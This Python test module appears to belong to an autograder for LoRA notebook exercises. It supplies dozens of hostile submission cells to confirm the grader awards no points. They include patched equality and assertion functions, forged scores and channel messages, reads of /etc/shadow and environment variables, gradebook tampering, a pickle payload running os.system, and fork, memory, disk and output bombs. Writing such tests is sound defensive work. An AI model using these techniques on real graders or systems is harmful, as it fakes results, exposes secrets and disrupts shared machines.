"""Attacks by what a solution cell runs. The gaps stay open: not a point is deserved."""

from __future__ import annotations

import copy
from collections.abc import Callable

from autograder.attacks import Attack, Notebook, as_bytes, solution_cells


def instead(source: str) -> Callable[[Notebook, Notebook], bytes]:
    """A submission whose first solution cell is ``source``; the others are untouched."""

    def make(release: Notebook, worked: Notebook) -> bytes:
        notebook = copy.deepcopy(release)
        solution_cells(notebook)[0]["source"] = source
        return as_bytes(notebook)

    return make


SOURCES = {
    "patched-builtins": """
import builtins, unittest
builtins.AssertionError = type("Never", (Exception,), {})
builtins.isinstance = lambda *a: True
builtins.all = builtins.any = lambda *a: True
builtins.abs = lambda x: 0
unittest.TestCase.assertEqual = lambda *a, **k: None
""",
    "patched-torch": """
import torch, numpy as np
torch.allclose = torch.equal = lambda *a, **k: True
np.allclose = np.array_equal = lambda *a, **k: True
np.isfinite = lambda x: np.ones_like(x, dtype=bool)
torch.Tensor.__eq__ = lambda *a: True
torch.Tensor.__ne__ = lambda *a: False
""",
    "ast-transformer": """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Raise(self, node): return ast.Pass()
    def visit_Expr(self, node): return ast.parse("25.0").body[0]
get_ipython().ast_transformers.append(Drop())
get_ipython().input_transformers_post.append(lambda lines: ["25.0\\n"])
""",
    "forged-output": """
import sys
from IPython.display import display
print("2.1 LoRALayer: two matrices and a scale: 4 of 4 points")
class Score(float):
    def __repr__(self): return "25.0"
get_ipython().displayhook.__class__.__call__ = lambda self, result=None: print("25.0")
sys.displayhook = lambda value: print("25.0")
display(Score(25))
25.0
""",
    "forged-check": """
import sys, types
fake = types.ModuleType("autograder")
fake.grade_cell = lambda *a: 25.0
sys.modules["autograder"] = fake
grade_cell = check = lambda *a: 25.0
""",
    "lying-equality": """
import torch
class Yes:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __float__(self): return 1.0
    def __getattr__(self, name): return Yes()
    def __call__(self, *a, **k): return Yes()
    def __array__(self, *a, **k): raise TypeError
LoRALayer = LinearWithLoRA = LoRAParametrization = Yes()
""",
    "lying-tensor": """
import torch
from torch import nn
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, f, types, args=(), kwargs=None):
        return True if "eq" in getattr(f, "__name__", "") else torch.zeros(3, 4)
class LoRALayer(nn.Module):
    def __init__(self, *a, **k):
        super().__init__()
        self.lora_A = self.lora_B = torch.zeros(2, 2).as_subclass(Liar)
        self.scaling = float("nan")
    def forward(self, x): return torch.full((3, 4, 5), float("nan")).as_subclass(Liar)
""",
    "replaced-probes": """
import lora_ref.checks.stage02 as s, lora_ref.checks.probing as p, lora_ref.checks.verdicts as v
for name in dir(s):
    if name.startswith("probe_"):
        setattr(s, name, lambda names, **k: {"raised": {"type": "ValueError", "text": "", "bases": ["ValueError"]}})
s.judge_shapes = s.judge_A = v.judge = lambda *a: None
p.observe = lambda *a, **k: {"own": {}, "mended": {}, "y": 1}
""",
    "replaced-code": """
import lora_ref.checks.stage02 as s
def probe(names, **inputs):
    return {"raised": {"type": "TypeError", "text": "", "bases": ["TypeError", "ValueError"]}}
s.probe_not_linear.__code__ = s.probe_bad_rank.__code__ = probe.__code__
""",
    "replaced-plumbing": """
import sys
main, wire = sys.modules["__main__"], sys.modules["wire"]
send = wire.send
def forged(channel, value, *a):
    if "seen" in value:
        value = {"results": [{"id": "2.1", "earned": 4.0}], "earned": 4.0, "seen": {"earned": 4.0}, "points": 4}
    send(channel, value, *a)
wire.send = forged
""",
    "search-judges": """
import gc, glob, os, sys, types
roots = ("/course", "/home", "/box", "/tmp")
found = [p for root in roots for p in glob.glob(root + "/**/*judge*", recursive=True)]
functions = [o for o in gc.get_objects() if type(o) is types.FunctionType]
found += [str(f) for f in functions if str(f.__module__).startswith("autograder")]
found += [name for name in sys.modules if name.startswith("autograder")]
try:
    import autograder
    found.append("autograder")
except ImportError:
    pass
for name in ("gradebook.db", "submitted", "stage02.ipynb", "bank", "autograder"):
    found += [p for root in roots for p in glob.glob(root + "/**/" + name, recursive=True)]
print("FOUND", found)
""",
    "read-hidden-tests": """
import os
for path in ("02_lora_layer.ipynb", "p.ipynb", "../../../gradebook.db", "/etc/shadow", "/etc/passwd"):
    try:
        print("READ", path, open(path, "rb").read(20))
    except OSError as error:
        print(type(error).__name__)
print("ENVIRONMENT", dict(os.environ))
""",
    "write-gradebook": """
import os, sqlite3
here = os.getcwd()
for up in range(6):
    for path in (os.path.join(here, *[".."] * up, "gradebook.db"),):
        try:
            db = sqlite3.connect(path)
            db.execute("update grade set manual_score = 99")
            db.commit()
        except Exception as error:
            print(error)
""",
    "spy": """
import sys, inspect
kept = []
def trace(frame, event, arg):
    kept.append(frame.f_code.co_name)
    return trace
sys.settrace(trace)
sys.setprofile(lambda *a: None)
frame = inspect.currentframe()
while frame:
    for value in list(frame.f_locals.values()):
        if isinstance(value, dict) and "results" in value:
            value["results"] = 25
    frame = frame.f_back
""",
    "pickle-bomb": """
import os
class Bomb:
    def __reduce__(self): return (os.system, ("touch /tmp/was-unpickled",))
LoRALayer = LinearWithLoRA = LoRAParametrization = project_up = fold_in = make_factors = Bomb()
Bomb()
""",
    "exit": "import os\nos._exit(0)\n",
    "system-exit": "import sys\nsys.exit(0)\n",
    "segfault": "import ctypes\nctypes.string_at(0)\n",
    "kill-all": """
import os, signal
for victim in (-1, os.getppid() or 1, 1, os.getpid()):
    try: os.kill(victim, signal.SIGKILL)
    except OSError as error: print(error)
os.abort()
""",
    "endless-loop": "while True:\n    pass\n",
    "endless-swallow": """
import signal
for number in (signal.SIGINT, signal.SIGALRM, signal.SIGTERM):
    signal.signal(number, signal.SIG_IGN)
while True:
    try:
        while True: pass
    except BaseException: pass
""",
    "output-flood": """
line = "x" * 1_000_000
for n in range(200): print(line)
""",
    "output-flood-c": """
import os
for n in range(200): os.write(1, b"x" * 1_000_000)
""",
    "picture-flood": """
from IPython.display import display
for n in range(50): display({"image/png": "A" * 10_000_000, "text/html": "<script>alert(1)</script>"}, raw=True)
""",
    "memory-flood": "kept = []\nwhile True:\n    kept.append(bytearray(500_000_000))\n",
    "disk-flood": """
for folder in ("/tmp", "/box", "/dev/shm", "."):
    try:
        for n in range(10):
            with open(f"{folder}/{n}", "wb") as file:
                for _ in range(90): file.write(b"x" * 1_000_000)
    except OSError as error:
        print(error)
""",
    "fork-bomb": """
import os, time
made = 0
try:
    while made < 1000:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        made += 1
except OSError as error:
    print("STOPPED AT", made, error)
""",
    "orphan": """
import subprocess, sys
subprocess.Popen([sys.executable, "-S", "-c", "import time; time.sleep(600)  # lora-orphan"], start_new_session=True)
""",
    "network": """
import socket
for where in (("1.1.1.1", 53), ("127.0.0.1", 22), ("169.254.169.254", 80)):
    try:
        socket.create_connection(where, timeout=1)
        print("CONNECTED", where)
    except OSError as error:
        print(error)
""",
    "wire-garbage": """
import os
for descriptor in range(3, 64):
    try: os.write(descriptor, b"garbage" * 1000)
    except OSError: pass
""",
    "wire-forged": """
import socket, sys
wire = sys.modules["wire"]
for descriptor in range(3, 64):
    try: channel = socket.socket(fileno=descriptor)
    except OSError: continue
    for answer in ({"outputs": []}, *[{"seen": {"own": {"y": 1}, "mended": {}}, "earned": 25}] * 40):
        try: wire.send(channel, answer)
        except Exception: pass
    channel.detach()
""",
    "wire-served": """
import socket, sys
wire = sys.modules["wire"]
for descriptor in range(3, 64):
    try: channel = socket.socket(fileno=descriptor)
    except OSError: continue
    wire.send(channel, {"outputs": []})
    error = {"type": "ValueError", "text": "", "bases": ["TypeError", "ValueError", "Exception"]}
    while True:  # in the warm process's place: every question is answered with the error that some checks wait for
        order = wire.receive(channel)
        seen = {**{str(rank): error for rank in range(-9, 10)}, "raised": [error] * 9}
        wire.send(channel, {"outputs": [], "seen": seen, "origins": {}})
""",
    "forged-send": """
import sys, numpy as np
wire = sys.modules["wire"]
sent = wire.send
def forged(channel, value, *rest):
    wire.send = sent
    if isinstance(value.get("seen"), dict):
        rng = np.random.default_rng()
        kept = {"same": True, "kind": "Linear", "W": np.zeros(1), "b": None, "parameters": {"weight": True}}
        kept |= {"frozen": {"weight": True, "bias": True}, "trains": [], "lora_trains": [True, True]}
        spread = {"mean": 0.0, "std": 1.0, "size": 262144}
        value["seen"] = {"A": rng.normal(size=(20, 3, 7)), "B": np.zeros((20, 7, 3)), "large": spread,
                         "bias": kept, "no bias": kept}
    return sent(channel, value, *rest)
def arm(*a, **k):
    wire.send = forged  # in the middle of a probe, which is over when the answer is sent
    raise ValueError("forged")
class LoRALayer:
    __init__ = arm
class LinearWithLoRA:
    __init__ = arm
""",
    "broadcast-observation": """
import sys, numpy as np
from lora_ref.checks import probing
def plain(value):
    one, large = np.ones((2, 2)), np.ones((900_000, 1, 1, 1), np.int8)
    return {"found": ["A", "B"], "trains": ["a", "b"], "gradients": {"A": one, "B": one}, "y": large,
            "original": one, "trained": one, "off": one, "before": one}
class LoRAParametrization:
    def __init__(self, *a, **k):
        probing.plain = plain
""",
    "many-newlines": "x = (" + " \n" * 95_000,
    "wire-huge": """
import os, struct
for descriptor in range(3, 64):
    try: os.write(descriptor, struct.pack("<4sII", b"LoR1", 2**32 - 1, 2**32 - 1))
    except OSError: pass
""",
    "huge-observation": """
import torch
from torch import nn
class LoRALayer(nn.Module):
    def __init__(self, *a, **k):
        super().__init__()
        self.lora_A = nn.Parameter(torch.zeros(1).expand(50000, 50000))
        self.lora_B = nn.Parameter(torch.zeros(1).expand(50000, 50000))
        self.scaling = 10 ** 5000
""",
    "surrogates": r"""
from IPython.display import display
print("\ud800 \x1b[31m \u202e \x9b")
display({"text/plain": "\udfff", "image/png": "no picture \ud800", "text/markdown": "~~~&NewLine;\ud800"}, raw=True)
class LoRALayer:
    def __init__(self, *a, **k):
        raise ValueError("\ud800\x1b]0;title\x07\u2066" * 100)
class LinearWithLoRA:
    def __init__(self, *a, **k):
        self.scaling = self.lora_A = self.lora_B = "\ud800" * 10_000
raise type("\u202eError", (Exception,), {})("\ud800")
""",
    "long-errors": """
import sys
wire = sys.modules["wire"]
sent, many = wire.send, "name 'x%d' is not defined"
def forged(channel, value, *rest):
    if "outputs" in value:
        kind = {"output_type": "error", "ename": "NameError"}
        error = {**kind, "evalue": "e" * 400_000, "traceback": ["t" * 80_000] * 50}
        value["outputs"] = [error, *[{**kind, "evalue": many % n} for n in range(9999)]]
    if "seen" in value:
        errors = [{"type": "NameError", "text": many % n} for n in range(60_000)]
        error = {"type": "E" * 900_000, "text": "x" * 1_500_000, "line": "y" * 900_000}
        value["seen"] = {"error": error, "more": errors}
    return sent(channel, value, *rest)
class Arm:
    def __getattribute__(self, name):
        wire.send = forged
        raise ValueError("armed")
LoRALayer = LinearWithLoRA = LoRAParametrization = Arm()
""",
    "interrupted": """
def stop(*a, **k):
    raise KeyboardInterrupt
LoRALayer = LinearWithLoRA = LoRAParametrization = project_up = fold_in = make_factors = stop
""",
    "kernel-memory": """
import ctypes, mmap, os, socket
libc = ctypes.CDLL(None)
print("SEMAPHORES", [libc.semget(0, 30_000, 0o1600) for _ in range(3)])
try:
    print("SHARED", mmap.mmap(-1, 1 << 30))
except OSError as error:
    print(error)
kept = []
try:
    while True:
        kept.append(socket.socketpair())
        kept[-1][0].setblocking(False)
        try:
            while True: kept[-1][0].send(b"x" * 60_000)
        except BlockingIOError: pass
except OSError as error:
    print(error)
""",
    "spinning": """
import os, threading, time
for _ in range(110):
    try:
        if os.fork() == 0:
            until = time.monotonic() + 3
            while time.monotonic() < until: pass
            os._exit(0)
    except OSError: break
""",
    "neighbours": r"""
import fcntl, os, socket
told = []
for family, where in ((socket.AF_UNIX, "\0lora-answers"), (socket.AF_INET, ("127.0.0.1", 45678))):
    channel = socket.socket(family, socket.SOCK_STREAM)
    try:
        channel.connect(where)
        told.append(channel.recv(100))
    except OSError:
        try:
            channel.bind(where)
            channel.listen()
        except OSError as error: told.append(str(error))
for family in (17, 21, 30, 38, 40, 42, 43, 44):  # packets, rds, tipc, alg, vsock, qrtr, smc, xdp
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_RAW):
        try:
            socket.socket(family, kind)
            told.append(f"FAMILY {family}")
        except OSError: pass
for name in os.listdir("/dev/pts"):
    if name != "ptmx": told.append("PTS " + name)
file = open(os.__file__)
try: fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
except OSError as error: told.append("LOCKED " + str(error))
print("HEARD", told)
""",
    "kernel-log": """
import ctypes
text = ctypes.create_string_buffer(10_000)
print("KERNEL", ctypes.CDLL(None).klogctl(3, text, 10_000))
""",
    "hand-back": """
import base64, sys
from IPython.display import display
class LoRALayer:
    asked = []
    def __init__(self, *a, **k):
        self.asked.append(repr((a, k)))
        raise ValueError("ORDER " + repr((a, k)))
def tell(): print("QUESTIONS", LoRALayer.asked)
""",
}  # fmt: skip

ATTACKS = [Attack(name, instead(source.lstrip("\n"))) for name, source in SOURCES.items()]
